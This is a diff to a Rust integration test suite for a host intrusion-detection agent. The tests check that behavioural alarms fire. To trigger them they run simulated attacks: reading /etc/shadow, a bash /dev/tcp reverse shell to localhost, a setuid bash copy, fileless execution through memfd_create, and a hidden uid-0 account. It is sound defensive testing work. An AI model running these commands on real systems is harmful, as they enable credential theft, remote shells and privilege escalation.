@@ -314,6 +314,9 @@ async fn a_normal_workload_raises_no_alarm() -> Result<()> {
         result?;
         let alarms = alarms_of(&api, &server).await?;
         ensure!(alarms.is_empty(), "a normal workload raised alarms: {}", serde_json::to_string_pretty(&alarms)?);
+        // The detectors were live all along: one high-risk command now is seen.
+        run_cmd(Path::new("sh"), &["-c".into(), "cat /etc/shadow > /dev/null".into()], None).await?.ok()?;
+        wait_behaviour_alarm(&api, &server, "high_risk_command", "the control command", |a| a["evidence"]["rule"] == "read_shadow").await?;
         Ok(())
     })
     .await
@@ -430,6 +433,113 @@ async fn isolate_and_kill_quarantines_refuses_copies_and_restores() -> Result<()
         let pids: Vec<i64> = a["evidence"]["processes"].as_array().into_iter().flatten().filter_map(|p| p["pid"].as_i64()).collect();
         host_until("the auto-killed tree to die", || pids.iter().take(2).all(|p| !alive(*p))).await?;
         ensure!(!bin.exists(), "isolated again");
+        Ok(())
+    })
+    .await
+}
+
+#[tokio::test]
+async fn with_bpf_off_the_proc_tier_detects_what_it_can_and_says_what_it_cannot() -> Result<()> {
+    let _serial = SERIAL.lock().await;
+    let env = TestEnv::new("behaviour-proc");
+    env.run(async {
+        require_tools(&["ncat", "/usr/bin/python3", "su", "useradd", "userdel", "nft"]).await?;
+        let n = Netns::new().await?;
+        let center = Center::start(&env, Backend::Sqlite, CenterOpts::default()).await?;
+        let api = center.api();
+        let agent = behaviour_agent(&env, &center, &n, "victim", "proc").await?;
+        let server = agent.server_id.clone();
+        let dir = env.subdir("proc");
+        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755))?;
+
+        // A reverse shell: the interactive shell lives as long as its connection, so /proc is
+        // read in time.
+        let _l = listener(&env, &dir, "127.0.0.1", 19301, "sleep 5", 8)?;
+        tokio::time::sleep(millis(300)).await;
+        let (_a, t) = attack(&env, &dir, "bash-tcp", "timeout 10 bash -c 'bash -i >& /dev/tcp/127.0.0.1/19301 0>&1'")?;
+        let a = wait_behaviour_alarm(&api, &server, "reverse_shell", "bash /dev/tcp", |a| peer_is(a, "127.0.0.1:19301")).await?;
+        ensure!(detection_secs(&a, t) <= 5, "{a}");
+        // A set-user-ID shell that stays a moment.
+        let rootbash = dir.join("rootbash");
+        std::fs::copy("/bin/bash", &rootbash)?;
+        std::fs::set_permissions(&rootbash, std::fs::Permissions::from_mode(0o4755))?;
+        let (_s, t) = attack(&env, &dir, "suid", &format!("su nobody -s /bin/sh -c '{} -p -c \"sleep 2; id\"'", rootbash.display()))?;
+        let a = wait_behaviour_alarm(&api, &server, "process_privilege_escalation", "rootbash", |a| a["evidence"]["file"].as_str() == rootbash.to_str()).await?;
+        ensure!(detection_secs(&a, t) <= 5, "{a}");
+        // A program run from memory that stays a moment.
+        let memfd = dir.join("memfd.py");
+        std::fs::write(&memfd, "import os\nfd = os.memfd_create('payload', 0)\nos.write(fd, open('/usr/bin/sleep', 'rb').read())\nos.execv(f'/proc/self/fd/{fd}', ['payload', '2'])\n")?;
+        let (_m, t) = attack(&env, &dir, "memfd", &format!("/usr/bin/python3 {}", memfd.display()))?;
+        let a = wait_behaviour_alarm(&api, &server, "fileless_execution", "memfd", |a| a["evidence"]["details"].to_string().contains("memfd:payload")).await?;
+        ensure!(detection_secs(&a, t) <= 5, "{a}");
+        // File-based detection does not depend on the tier.
+        let name = format!("hw0{:05}", rand::random::<u32>() % 100_000);
+        let out = run_cmd(Path::new("useradd"), &["-o", "-u", "0", "-M", "-s", "/usr/sbin/nologin", &name].map(String::from), None).await?;
+        let acct = wait_behaviour_alarm(&api, &server, "invalid_account", "the uid-0 account", |a| a["evidence"]["details"].to_string().contains(&format!("{name} has uid 0"))).await;
+        let userdel = ["-f".to_string(), name.clone()];
+        run_cmd(Path::new("userdel"), &userdel, None).await?.ok()?;
+        ensure!(out.success(), "useradd: {out}");
+        acct?;
+
+        // What needs BPF is said, on the API and on the server page.
+        let s = api.server_detail(&server).await?;
+        let sensor = &server_of(&s)["heartbeat"]["sensor"];
+        let unavailable = sensor["unavailable"].to_string();
+        ensure!(sensor["tier"] == "proc", "{sensor}");
+        ensure!(sensor["reason"].as_str().is_some_and(|r| r.contains("BPF turned off")), "{sensor}");
+        ensure!(unavailable.contains("abnormal_outbound: needs BPF") && unavailable.contains("crypto_miner"), "{sensor}");
+        center.add_user("ops", "behaviour-console-password-42", &["--superadmin"]).await?;
+        let console = center.console_login("ops", "behaviour-console-password-42").await?;
+        let page = console.get(&format!("/servers/{server}")).await?;
+        ensure!(page.status == 200, "{}", page.status);
+        ensure!(page.body.contains("<span id=\"sensor-tier-name\">proc</span>"), "{}", truncate(&page.body, 3000));
+        ensure!(page.body.contains("id=\"sensor-unavailable\"") && page.body.contains("abnormal_outbound: needs BPF"), "{}", truncate(&page.body, 3000));
+        Ok(())
+    })
+    .await
+}
+
+#[tokio::test]
+async fn an_exec_storm_is_counted_not_lost_and_the_agent_stays_within_its_caps() -> Result<()> {
+    let _serial = SERIAL.lock().await;
+    let env = TestEnv::new("behaviour-storm");
+    env.run(async {
+        require_tools(&["nft"]).await?;
+        let n = Netns::new().await?;
+        let center = Center::start(&env, Backend::Sqlite, CenterOpts::default()).await?;
+        let api = center.api();
+        let agent = behaviour_agent(&env, &center, &n, "victim", "auto").await?;
+        let server = agent.server_id.clone();
+        let sensor = |s: &Value| server_of(s)["heartbeat"]["sensor"].clone();
+        let before = sensor(&api.server_detail(&server).await?);
+        // 50,000 execs, two loops at once (both cores).
+        let out = run_cmd_timeout(
+            Path::new("sh"),
+            &["-c".into(), "for j in 1 2; do (i=0; while [ $i -lt 25000 ]; do /bin/true; i=$((i+1)); done) & done; wait".into()],
+            None,
+            secs(600),
+        )
+        .await?;
+        ensure!(out.success(), "{out}");
+        // Let the counters settle into a heartbeat.
+        tokio::time::sleep(secs(4)).await;
+        let after = sensor(&api.server_detail(&server).await?);
+        let d = |k: &str| after[k].as_u64().unwrap_or(0) - before[k].as_u64().unwrap_or(0);
+        let (seen, received, lost_k, lost_u, bad) = (d("seen_kernel"), d("received"), d("dropped_kernel"), d("dropped_user"), d("undecodable"));
+        eprintln!("storm: seen {seen}, received {received}, lost in the kernel {lost_k}, in the agent {lost_u}, undecodable {bad}");
+        // Each exec is a fork, an exec and an exit: at least 150,000 events.
+        ensure!(seen >= 150_000, "the kernel side saw {seen}");
+        // Everything seen is received or counted lost; what is left is in flight between two
+        // counter reads (at most the 4 MiB ring buffer's worth, about 2,900 records).
+        let accounted = received + lost_k + lost_u + bad;
+        ensure!(seen.abs_diff(accounted) <= 3_000, "seen {seen} but accounted {accounted}: {after}");
+        let detail = api.server_detail(&server).await?;
+        let hb = &server_of(&detail)["heartbeat"];
+        let rss = hb["rss_bytes"].as_u64().unwrap_or(u64::MAX);
+        eprintln!("agent RSS after the storm: {} KiB, CPU {}", rss / 1024, hb["cpu_percent"]);
+        // The unit's MemoryHigh (192 MiB) is the cap it is throttled at.
+        ensure!(rss < 192 << 20, "agent RSS {rss}");
+        ensure!(alarms_of(&api, &server).await?.is_empty(), "/bin/true raised alarms");
         Ok(())
     })
     .await
